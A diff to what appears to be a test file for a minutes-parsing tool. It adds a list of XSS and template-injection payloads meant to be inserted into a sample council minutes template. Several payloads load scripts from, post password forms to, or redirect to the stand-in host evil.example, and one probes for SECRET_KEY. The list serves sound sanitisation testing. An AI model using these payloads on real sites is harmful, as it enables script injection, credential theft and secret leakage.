@@ -37,3 +37,63 @@ Dr Olu Bello, Independent Chair of the Safeguarding Partnership, was in attendan
 
 2. RESOLVED that the annual report be noted, and a report on missing children be brought to the next meeting.
 """
+
+# What the author of a pasted document might try. Each stands in every place of HOSTILE that becomes a field of its own.
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<script>alert(1)//",
+    "</script><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x:x onerror=alert(1)//",
+    '"><img src=x onerror=alert(1)>',
+    "'><img src=x onerror=alert(1)>",
+    '" autofocus onfocus=alert(1) x="',
+    "' onmouseover='alert(1)",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1)>",
+    "<math><mtext></p><style><!--</style><img src=x onerror=alert(1)>",
+    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    "<a href='vbscript:x'>x</a>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe src=javascript:alert(1)>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<form action=https://evil.example><input name=password></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example/x.css'</style>",
+    "<p style=position:fixed>x</p>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "{{ settings.SECRET_KEY }} {% debug %} ${7*7} {0.__class__}",
+]
+
+HOSTILE = """Minutes:
+
+Witnesses:
+Tom Hale, Head of {payload} Fostering
+
+1. A Member asked about {payload} twice.
+
+Recommendations:
+1. That the Cabinet open {payload} by 30 September 2026.
+
+Actions:
+1. Tom {payload} Hale to write to {payload} by May 2026.
+"""
